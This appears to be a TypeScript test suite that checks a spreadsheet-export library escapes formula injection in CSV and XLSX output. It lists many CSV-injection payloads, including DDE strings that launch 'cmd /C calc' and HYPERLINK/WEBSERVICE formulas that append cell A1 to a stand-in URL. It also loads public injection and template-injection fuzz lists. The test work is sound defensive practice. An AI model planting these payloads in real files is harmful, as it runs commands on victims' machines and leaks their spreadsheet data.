import { existsSync, readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { detectFile } from '../parse/detect.ts';
import { readTable } from '../parse/read-table.ts';
import { cellText } from '../parse/table.ts';
import { escapeFormula, unescapeFormula } from './formula.ts';
import { writeCsv } from './write-csv.ts';
import { writeXlsx } from './write-xlsx.ts';

const bodies = [
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'HYPERLINK("http://example.com?x="&A1,"open")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'WEBSERVICE("http://example.com/"&A1)',
  'IMPORTXML("http://example.com","//a")',
  'ГИПЕРССЫЛКА("http://example.com")',
  '1+1',
  'A1',
  "2+5+cmd|'/C calc'!A0",
];
const leads = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−', '﹦'];
const covers = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\u00a0',
  '\u200b',
  '\ufeff',
  '"',
  ' "',
  '\0',
  '\u001f \t',
  '\u3000',
  "'",
  "''",
  "\t'",
];
const splitters = ['x;', 'x,', 'x\t', 'x|', 'x\n', 'x\r\n', 'x; "', 'x\n ', "x;'", '";'];

const payloads = [
  ...covers.flatMap((c) => leads.map((lead, i) => `${c}${lead}${bodies[i % bodies.length]}`)),
  ...splitters.flatMap((s) => ['=', '@', '+', '-', '＝'].map((lead, i) => `${s}${lead}${bodies[i]}`)),
  ...bodies.map((b) => `=${b}`),
  '-5+3',
  '+7-495-123-45-67',
  '@SUM(1)',
  '=\n1',
  "'=already quoted",
  "''=twice",
  '-2+3;=1',
  '=',
  '-',
  '@',
  "O'Brien",
  '-5',
  '+998901234567',
];

const folder = `${process.env.MIJOZ_REFERENCE_DATA ?? '../shared/data'}/09-security`;

function referencePayloads(): string[] {
  const blns = JSON.parse(readFileSync(`${folder}/blns/blns.json`, 'utf8')) as string[];
  const markdown = readFileSync(`${folder}/payloadsallthethings/CSV Injection/README.md`, 'utf8');
  const injections = markdown.split('\n').filter((l) => /^\s*[=+\-@%]/.test(l));
  const templates = readFileSync(
    `${folder}/payloadsallthethings/Server Side Template Injection/Intruder/ssti.fuzz`,
    'utf8',
  ).split('\n');
  return [...blns, ...injections, ...templates];
}

/** What a spreadsheet makes of a CSV text when it is set to a delimiter: it knows quotes only at a cell's beginning. */
function cellsOfSpreadsheet(text: string, delimiter: string): string[] {
  const cells: string[] = [];
  let at = 0;
  while (at < text.length) {
    let cell = '';
    if (text[at] === '"') {
      for (at++; at < text.length; at++) {
        if (text[at] !== '"') cell += text[at];
        else if (text[at + 1] === '"') cell += text[at++];
        else break;
      }
      at++;
    }
    while (at < text.length && text[at] !== delimiter && text[at] !== '\n' && text[at] !== '\r')
      cell += text[at++];
    cells.push(cell);
    at++;
  }
  return cells;
}

const live = (cell: string): boolean => {
  const seen = cell
    .replace(/^[\s\p{C}\p{Z}"]+/u, '')
    .normalize('NFKC')
    .replace('−', '-');
  if (seen.startsWith('=')) return true;
  return /^[+@-]/.test(seen) && !/^[+-]\d+$/.test(seen) && /[(|]|^[+-][\d]+[+-]/.test(seen);
};

async function bytesOf(pieces: AsyncIterable<Uint8Array>): Promise<Buffer> {
  const all: Uint8Array[] = [];
  for await (const piece of pieces) all.push(piece);
  return Buffer.concat(all);
}

async function readBack(bytes: Uint8Array): Promise<string[]> {
  const values: string[] = [];
  for await (const { cells } of readTable(bytes, await detectFile(bytes))) values.push(cellText(cells[1]));
  return values;
}

describe('formulas in exports', () => {
  test('there are enough payloads for the goal', () => expect(new Set(payloads).size).toBeGreaterThan(200));

  test('none of them is live in CSV, whatever delimiter the spreadsheet is set to', async () => {
    for (const payload of payloads) {
      const csv = (
        await bytesOf(writeCsv([['1', payload, 'end']], { encoding: 'utf-8-without-mark' }))
      ).toString();
      for (const delimiter of [',', ';', '\t', '|']) {
        expect(
          cellsOfSpreadsheet(csv, delimiter).filter(live),
          `${JSON.stringify(payload)} by ${JSON.stringify(delimiter)}`,
        ).toEqual([]);
      }
    }
  });

  test('the values survive CSV and XLSX', async () => {
    const rows = payloads.map((p, i): string[] => [`row ${i}`, p, 'last']);
    const header = ['name', 'value', 'end'];
    expect(await readBack(await bytesOf(writeCsv(rows, { header })))).toEqual(payloads);
    expect(
      await readBack(await bytesOf(writeCsv(rows, { header, delimiter: ';', encoding: 'utf-16le' }))),
    ).toEqual(payloads);
    expect(await readBack(await bytesOf(writeXlsx(rows, { header })))).toEqual(payloads);
  });

  test.runIf(existsSync(folder))('the lists of others survive, and are not live', async () => {
    const values = referencePayloads().map((v) => v.toWellFormed());
    const rows = values.map((v, i): string[] => [`row ${i}`, v, 'last']);
    const header = ['name', 'value', 'end'];
    expect(values.length).toBeGreaterThan(500);
    expect(await readBack(await bytesOf(writeCsv(rows, { header })))).toEqual(values);
    expect(await readBack(await bytesOf(writeXlsx(rows, { header })))).toEqual(values);
    for (const value of values) expect(live(escapeFormula(value)), value).toBe(false);
  });

  test('what is no formula is not touched', () => {
    for (const text of [
      "O'Brien",
      "'hello",
      '-5',
      '+998901234567',
      'a=b',
      'Call Ivan; - then write',
      'me@example.com, you@example.com',
      '1 + 1',
    ]) {
      expect(escapeFormula(text)).toBe(text);
    }
    expect(escapeFormula("'=x")).toBe("''=x");
    expect(unescapeFormula("'=x")).toBe('=x');
  });

  test('every text comes back', () => {
    const text = fc.string({ unit: fc.constantFrom(...`'"=+-@,;|\t\r\n x1(＝\u200b`), maxLength: 12 });
    fc.assert(
      fc.property(text, (t) => {
        expect(unescapeFormula(escapeFormula(t))).toBe(t);
      }),
      { numRuns: 5000 },
    );
  });
});
